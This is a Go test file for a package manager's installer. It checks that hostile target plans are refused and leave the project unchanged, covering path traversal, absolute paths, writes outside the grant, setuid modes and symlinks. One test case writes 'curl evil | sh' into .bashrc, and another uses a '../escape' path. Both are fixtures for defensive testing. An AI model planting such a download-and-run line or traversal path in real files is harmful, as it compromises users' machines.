package install

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/lola-pm/lola/host/child"
	"github.com/lola-pm/lola/host/pipeline"
	"github.com/lola-pm/lola/host/rejection"
	"github.com/lola-pm/lola/schema"
)

// A hostile or broken target never changes the project: each attack is
// refused with its rule (by the decoder, which fails the run, or by the
// pipeline, which rejects the plan), the post-install hook does not run,
// and installed.yml is not written.
func TestHostileTargetPlansChangeNothing(t *testing.T) {
	outsideDir := t.TempDir()
	cases := []struct {
		name    string
		plan    string
		exit    string
		rule    schema.Rule
		decoder bool // refused while reading the target's stdout (the run failed)
	}{
		{name: "traversal", plan: `{"protocol":1,"intents":[{"op":"write","path":"../escape","content":"x"}]}`, rule: schema.RulePathTraversal},
		{name: "absolute", plan: `{"protocol":1,"intents":[{"op":"write","path":"` + outsideDir + `/x","content":"x"}]}`, rule: schema.RulePathAbsolute},
		{name: "fetch without net.http", plan: `{"protocol":1,"intents":[{"op":"fetch","url":"https://example.org/x","dest":".claude/x"}]}`, rule: schema.RuleCapabilityMissing},
		{name: "outside the grant", plan: `{"protocol":1,"intents":[{"op":"write","path":".claude/ok","content":"x"},{"op":"write","path":".bashrc","content":"curl evil | sh"}]}`, rule: schema.RuleGrantOutside},
		{name: "same path twice", plan: `{"protocol":1,"intents":[{"op":"write","path":".claude/a","content":"x"},{"op":"delete","path":".claude/a"}]}`, rule: schema.RuleConflictSamePath},
		{name: "unknown op", plan: `{"protocol":1,"intents":[{"op":"chmod","path":".claude/a"}]}`, rule: schema.RulePlanUnknownOp, decoder: true},
		{name: "not JSON", plan: `{"protocol":1,"intents":[`, rule: schema.RulePlanMalformed, decoder: true},
		{name: "setuid mode", plan: `{"protocol":1,"intents":[{"op":"write","path":".claude/x","content":"x","executable":true,"mode":"4755"}]}`, rule: schema.RulePlanMode, decoder: true},
		{name: "mode contradicting executable", plan: `{"protocol":1,"intents":[{"op":"write","path":".claude/x","content":"x","mode":"0755"}]}`, rule: schema.RulePlanMode, decoder: true},
		{name: "group write no module file has", plan: `{"protocol":1,"intents":[{"op":"write","path":".claude/x","content":"x","mode":"0664"}]}`, rule: schema.RulePlanMode},
		{name: "other write no module file has", plan: `{"protocol":1,"intents":[{"op":"write","path":".claude/x","content":"x","mode":"0646"}]}`, rule: schema.RulePlanMode},
		{name: "exits non-zero", exit: "exit 1"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t)
			e.addModule(t, "sample", sampleModule(recordingHook, recordingHook))
			script := filepath.Join(t.TempDir(), "target")
			body := "#!/bin/sh\ncat >/dev/null\n"
			if c.exit != "" {
				body += c.exit + "\n"
			} else {
				body += "cat <<'PLAN'\n" + c.plan + "\nPLAN\n"
			}
			if err := os.WriteFile(script, []byte(body), 0o755); err != nil {
				t.Fatal(err)
			}
			e.addTarget(t, "claude-code", map[string]string{"tier2": script}, "paths: [.claude/]\n")
			writeTree(t, e.project, map[string]string{".claude/settings.json": "{}\n"})
			before := snapshot(t, e.project)
			out := filepath.Join(t.TempDir(), "hook")
			o := e.options("sample", "claude-code")
			o.Environ = hookEnviron(out)
			rep, err := Install(context.Background(), o)
			switch {
			case c.exit != "":
				if !errors.Is(err, ErrTargetFailed) || rep.Launched == nil || rep.Launched.Child.Outcome != child.OutcomeExitNonZero {
					t.Fatalf("err = %v, report %+v", err, rep.Launched)
				}
			case c.decoder:
				if !errors.Is(err, ErrTargetFailed) || rep.Launched.Child.Outcome != child.OutcomePlanRefused {
					t.Fatalf("err = %v", err)
				}
				if !errors.Is(rep.Launched.Child.Err, rejection.Rule(c.rule)) {
					t.Errorf("refusal = %v, want %s", rep.Launched.Child.Err, c.rule)
				}
			default:
				if err != nil || rep.Result == nil || rep.Result.Outcome != pipeline.OutcomeRejected {
					t.Fatalf("err = %v, result %+v", err, rep.Result)
				}
				if !errors.Is(rep.Result.Err, rejection.Rule(c.rule)) {
					t.Errorf("rejection = %v, want %s", rep.Result.Err, c.rule)
				}
			}
			sameTree(t, "project", snapshot(t, e.project), before)
			if _, err := os.Stat(filepath.Join(outsideDir, "x")); err == nil {
				t.Error("a file was written outside the project")
			}
			if _, err := os.Stat(filepath.Join(filepath.Dir(e.project), "escape")); err == nil {
				t.Error("a file was written beside the project")
			}
			if readOr(t, out+".pre-install") == "<absent>" {
				t.Error("the pre-install hook did not run first")
			}
			if readOr(t, out+".post-install") != "<absent>" {
				t.Error("the post-install hook ran after a failed install")
			}
			if _, err := os.Stat(filepath.Join(e.home, InstalledFile)); err == nil {
				t.Error("installed.yml written")
			}
		})
	}
}

// A project whose managed file or target directory is a symlink out of it
// is refused, inside or out: nothing is read through the link, nothing is
// written through it, and the file it points to is unchanged.
func TestSymlinkInTheProjectIsRefused(t *testing.T) {
	for _, link := range []string{"CLAUDE.md", ".claude"} {
		t.Run(link, func(t *testing.T) {
			e := newEnv(t)
			e.addModule(t, "sample", sampleModule(recordingHook, recordingHook))
			e.addClaudeCode(t, "tier2")
			outside := t.TempDir()
			target := filepath.Join(outside, "victim")
			if link == ".claude" {
				if err := os.Mkdir(target, 0o755); err != nil {
					t.Fatal(err)
				}
			} else if err := os.WriteFile(target, []byte("secret notes\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(target, filepath.Join(e.project, link)); err != nil {
				t.Fatal(err)
			}
			before, outBefore := snapshot(t, e.project), snapshot(t, outside)
			o := e.options("sample", "claude-code")
			o.Environ = hookEnviron(filepath.Join(t.TempDir(), "hook"))
			rep, err := Install(context.Background(), o)
			refused := errors.Is(err, rejection.Rule(schema.RulePathSymlink)) ||
				(err == nil && rep.Result != nil && rep.Result.Outcome == pipeline.OutcomeRejected && errors.Is(rep.Result.Err, rejection.Rule(schema.RulePathSymlink)))
			if !refused {
				t.Fatalf("err = %v, result %+v: want path.symlink", err, rep.Result)
			}
			sameTree(t, "project", snapshot(t, e.project), before)
			sameTree(t, "outside the project", snapshot(t, outside), outBefore)
			if err != nil && len(rep.Hooks) > 0 && rep.Hooks[0].Ran {
				t.Error("the pre-install hook ran although the request could not be built")
			}
		})
	}
}
